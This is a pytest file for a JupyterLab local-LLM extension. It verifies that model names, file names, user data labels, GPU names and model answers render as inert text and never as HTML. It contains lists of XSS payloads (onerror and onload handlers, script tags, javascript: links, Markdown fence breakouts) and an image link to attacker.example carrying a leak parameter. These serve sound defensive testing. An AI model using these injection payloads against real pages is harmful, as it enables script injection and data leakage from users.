"""Untrusted text never becomes HTML (issue 25, family 2).

ipywidgets' ``HTML`` sets ``innerHTML`` and JupyterLab renders a fresh output's Markdown with its
raw HTML, so every string from a model file (name, file name), the user's data (model ids,
labels, column names, aliases, descriptions, error text) or a model's answer must reach the page
as text. Each panel and report is rendered with hostile strings in every field; the HTML is
parsed and must hold no element or attribute from the data, and show the text as written.
The real browser (JupyterLab in Chromium) is in ``test_labextension_browser.py``.
"""

from __future__ import annotations

import json
import random
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from gguf_edit import write_copy

import jupyter_localllm as ll
from jupyter_localllm.analysis.charts import figure_to_png
from jupyter_localllm.models import default_model_path
from jupyter_localllm.notebook.escaping import html_table, markdown_code, safe_markdown
from jupyter_localllm.notebook.magics import LLMResponse
from jupyter_localllm.notebook.widgets.hardware import HardwarePanel, sparkline_svg
from jupyter_localllm.notebook.widgets.usage import GpuUsage, Usage
from jupyter_localllm.session.manager import get_manager

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    '"><svg onload=alert(3)>',
    "' onmouseover='alert(4)",
    "</td></tr></table><iframe src=javascript:alert(5)></iframe>",
    "&lt;img src=y onerror=alert(6)&gt;",  # shown as typed, never decoded into a tag
]
# What the data would add to the page if it were HTML.
DATA_TAGS = {"img", "script", "svg", "iframe"}
REPO = Path(__file__).resolve().parents[1]


class _Page(HTMLParser):
    """The elements, attribute names and text of an HTML fragment."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[str] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [name for name, _ in attrs]

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def assert_inert(html: str, *shown: str, own: dict[str, int] | None = None) -> None:
    """``html`` holds no element or event attribute from the data (``own``: how many of an
    element the panel draws itself), and shows each of ``shown`` literally."""
    page = _Page(html)
    own = own or {}
    assert not (DATA_TAGS - set(own)) & set(page.tags), (page.tags, html[:500])
    assert all(page.tags.count(tag) == n for tag, n in own.items()), (page.tags, html[:500])
    assert not [a for a in page.attrs if a.startswith("on")], (page.attrs, html[:500])
    text = "".join(page.text)
    for value in shown:
        assert value in text, (value, text[:500])


# -- the model panel: a hostile model file under a hostile alias --------------------------------
def test_model_panel_shows_a_hostile_model_file_and_alias_as_text(tmp_path, cache):
    name = " ".join(HOSTILE)
    file_name = "<img src=x onerror=alert(7)> ' onmouseover='x.gguf"  # no "/" in a file name
    path = write_copy(default_model_path(), cache / file_name, {"general.name": name})
    alias = "alias " + " ".join(HOSTILE)
    panel = ll.ModelPanel()
    assert file_name in panel.ref.options  # listed from the cache, as a plain option
    panel.ref.value, panel.alias.value = str(path), alias
    try:
        assert panel.load() is not None
        assert get_manager().get(alias).name == name
        assert_inert(panel.message.value, f"Loaded {alias}.")
        assert_inert(panel.loaded.value, alias, name)
        assert alias in panel.unload_choice.options
        panel.unload_choice.value = alias
        panel.unload()
        assert_inert(panel.message.value, f"Unloaded {alias}.")
    finally:
        if alias in get_manager().aliases:
            get_manager().unload(alias)
    missing = str(tmp_path / "<img src=x onerror=alert(8)>.gguf")
    panel.ref.value, panel.alias.value = missing, ""
    assert panel.load() is None  # the error is a red line, not a traceback
    assert_inert(panel.message.value, "<img src=x onerror=alert(8)>.gguf")


def test_model_table_escapes_every_header_and_cell():
    frame = pd.DataFrame({h: [h, 1.25] for h in HOSTILE})
    html = html_table(frame, precision=1)
    assert_inert(html, *HOSTILE, "1.2")


# -- progress, hardware ------------------------------------------------------------------------
def test_progress_panel_escapes_its_description_and_note():
    desc = " ".join(HOSTILE)
    panel = ll.ProgressPanel(4, desc, min_interval=0)
    panel(ll.Progress(done=2, total=4, errors=1, generated_tokens=10, elapsed=1.0))
    panel.finish(failed=True, note=HOSTILE[0])
    assert_inert(panel.label.value, desc)
    assert_inert(panel.stats.value, "2/4 rows", HOSTILE[0])
    assert repr(panel).startswith(desc)


class _HostileGpus:
    """A sampler whose GPUs have hostile names (what a driver could report)."""

    def sample(self) -> Usage:
        gpus = [GpuUsage(i, h, 50.0, 2**30, 2**31) for i, h in enumerate(HOSTILE)]
        return Usage(0.0, [10.0, 20.0], 2**30, 2**32, 2**28, gpus)

    def close(self) -> None:
        pass


def test_hardware_panel_escapes_gpu_names_and_series_names():
    panel = HardwarePanel(autostart=False)
    try:
        panel._sampler = _HostileGpus()
        panel.update()
        assert_inert(panel.gpus.value, *HOSTILE)
    finally:
        panel.close()
    svg = sparkline_svg({h: [10.0, 90.0] for h in HOSTILE})
    assert_inert(svg, *HOSTILE, own={"svg": 1})


# -- accuracy: model ids, labels and column names from the user's data ---------------------------
def _annotations() -> pd.DataFrame:
    labels = [*HOSTILE[:3], "$\\frac{1$", "a $x^$ b"]  # the last two are broken mathtext
    truth = [labels[i % len(labels)] for i in range(10)]
    rows = []
    for model in (HOSTILE[0], HOSTILE[2]):
        for i, gold in enumerate(truth):
            label = gold if (i + len(model)) % 3 else labels[(i + 1) % len(labels)]
            rows.append({"sample_id": i, "model_id": model, "label": label, "truth": gold})
    return pd.DataFrame(rows)


def test_validation_report_html_escapes_models_and_labels():
    report = ll.validate(_annotations())
    html = report._repr_html_()
    assert html.count("data:image/png;base64,") == 5  # the charts drew "$…$" labels as text
    shown = (HOSTILE[0], HOSTILE[1], HOSTILE[2], "Confusion: " + HOSTILE[0])
    assert_inert(html, *shown, own={"img": 5})


def test_accuracy_panel_escapes_models_and_labels():
    panel = ll.AccuracyPanel(ll.validate(_annotations()))
    assert panel.tabs.titles == (HOSTILE[0], HOSTILE[2])  # tab titles are text, not HTML
    assert_inert(panel.metrics.value, HOSTILE[0], HOSTILE[2])
    assert_inert(panel._reliability_html(), HOSTILE[0], HOSTILE[2])
    matrix = ll.compute_confusion_matrices(_annotations())["vs_gold"][HOSTILE[0]]
    fig = ll.confusion_matrix_figure(matrix.rename_axis(index="$\\oops", columns="$x$"))
    assert figure_to_png(fig)[:4] == b"\x89PNG"
    assert "$\\frac{1$" in [t.get_text() for t in fig.axes[0].get_xticklabels()]


# -- Markdown: a model's answer ------------------------------------------------------------------
ANSWERS = [
    "Sure! <img src=x onerror=alert(1)> done",
    "<script>alert(2)</script>",
    "[click](javascript:alert(3)) and ![img](http://attacker.example/?leak=1)",
    '[ref]: /u "title\n\n```\n"\n<img src=x onerror=alert(4)>\n```',
    "- item\n\n  ```\n- <img src=x onerror=alert(5)>",
    "$$\n\n```\n$$\n<img src=x onerror=alert(6)>\n```",
    "`code` \\`<img src=x onerror=alert(7)>`",
    "http://a.example/`<img src=x onerror=alert(8)>`",
    "| `a | <img src=x onerror=alert(9)>` |\n|---|---|\n| 1 | 2 |",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(10)>]\n```",
    '```" onmouseover="alert(11)\ncode\n```',
    "<pre>\n\n<img src=x onerror=alert(12)>\n</pre>",
]


def test_markdown_answers_keep_markdown_and_code_but_no_html():
    good = "# Title\n\nSome **bold**, `a[0] < b`, $5.\n\n```python\nif a < b:\n    x = [1]\n```"
    md = safe_markdown(good)
    assert "# Title" in md and "**bold**" in md
    assert "```python\nif a < b:\n    x = [1]\n```" in md  # code blocks are kept as written
    assert "<code>a&#91;0&#93; &#60; b</code>" in md and "&#36;5" in md
    for answer in ANSWERS:
        md = safe_markdown(answer)
        outside = md.split("```")[0::2]  # the text outside fenced blocks
        for part in outside:
            assert "<" not in part.replace("<code>", "").replace("</code>", ""), md
            assert "[" not in part and "$" not in part, md


def test_answers_shown_by_the_magics_are_safe_markdown():
    for answer in ANSWERS:
        bundle, _ = LLMResponse(answer)._repr_mimebundle_()
        assert bundle["text/plain"] == answer
        assert bundle["text/markdown"] == safe_markdown(answer)
    breakout = "print(1)\n```\n<img src=x onerror=alert(1)>\n````"
    code = LLMResponse(breakout, fmt="code")._repr_mimebundle_()[0]["text/markdown"]
    assert code == markdown_code(breakout, "python")
    assert code.startswith("`````python\n") and code.endswith("\n`````")


MARKED = REPO / "labextension" / "node_modules" / "marked" / "lib" / "marked.esm.js"
LATEX = REPO / "labextension" / "node_modules" / "@jupyterlab" / "rendermime" / "lib" / "latex.js"
RENDER_JS = f"""
import {{ marked }} from {json.dumps(MARKED.as_uri())};
globalThis.navigator ??= {{ appName: 'node' }};
const {{ removeMath, replaceMath }} = await import({json.dumps(LATEX.as_uri())});
let input = '';
for await (const chunk of process.stdin) input += chunk;
const html = JSON.parse(input).map(src => {{
  const parts = removeMath(src);
  return replaceMath(marked.parse(parts.text, {{ gfm: true, async: false }}), parts.math);
}});
process.stdout.write(JSON.stringify(html));
"""
TOKENS = [
    "```", "````", "~~~", "``", "`", "\n", "\n\n", " ", "   ", "    ", "\t", "\r", "<", ">",
    "<img src=x onerror=alert(1)>", "<script>", "<pre>", "</pre>", "<!--", "<div>", "<style>",
    "[a](javascript:alert(1))", "![x](http://e.example/x.png)", '[a]: /u "t', '"', "'", "[", "]",
    "(", ")", "$", "$$", "\\\\(", "\\\\[", "\\begin{x}", "\\end{x}", "\\", "@@0@@", "- ", "1. ",
    "> ", "|", "| a | b |\n|---|---|\n", "*", "_", "~~", "&lt;", "&#60;", "python", "mermaid",
    "www.x.com", "http://a.example/`c", "<http://x>", "<javascript:alert(1)>", "===", "[ ] ",
]  # fmt: skip
SAFE_TAGS = {
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code",
    "em", "strong", "del", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "a", "input",
}  # fmt: skip


class _Rendered(HTMLParser):
    """Problems in marked's HTML: an element, attribute or link marked never makes itself."""

    def __init__(self, html: str):
        super().__init__()
        self.problems: list[tuple] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag not in SAFE_TAGS:
            self.problems.append(("element", tag))
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("src", "style", "srcdoc"):
                self.problems.append(("attribute", name, value))
            if name == "href" and not value.startswith(("http://", "https://", "mailto:")):
                self.problems.append(("link", value))
            if name == "class" and not value.startswith("language-"):
                self.problems.append(("class", value))

    handle_startendtag = handle_starttag


@pytest.mark.skipif(
    shutil.which("node") is None or not MARKED.exists() or not LATEX.exists(),
    reason="node and labextension/node_modules (make setup) are needed to run marked",
)
def test_safe_markdown_renders_no_html_in_jupyterlabs_markdown_parser(tmp_path):
    """JupyterLab's own pipeline (its math extraction, then marked with GFM) on the hand-made
    answers and 1,500 random ones built from the pieces that open HTML, links, math and code."""
    rng = random.Random(25)
    answers = ANSWERS + [
        "".join(rng.choice(TOKENS) for _ in range(rng.randint(1, 40))) for _ in range(1500)
    ]
    sources = [safe_markdown(a) for a in answers] + [markdown_code(a, "py") for a in answers]
    script = tmp_path / "render.mjs"
    script.write_text(RENDER_JS)
    done = subprocess.run(
        ["node", str(script)], input=json.dumps(ANSWERS + sources), capture_output=True,
        text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    rendered = json.loads(done.stdout)
    as_written = rendered[:3]  # the first answers unescaped: the check must see their HTML
    assert all(_Rendered(html).problems for html in as_written), as_written
    bad = [
        (a, html, problems)
        for a, html in zip(answers + answers, rendered[len(ANSWERS) :], strict=True)
        if (problems := _Rendered(html).problems)
    ]
    assert not bad, bad[:3]
